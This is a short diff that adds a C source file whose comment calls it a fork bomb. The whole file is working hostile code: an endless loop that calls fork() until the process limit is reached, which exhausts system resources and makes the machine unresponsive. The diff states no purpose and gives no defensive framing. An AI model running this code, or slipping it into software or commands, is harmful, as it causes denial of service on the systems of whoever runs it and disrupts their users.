@@ -1,0 +1,6 @@
+// A fork bomb: forks for ever (fork fails at the process limit).
+#include <unistd.h>
+int main() {
+  for (;;)
+    fork();
+}
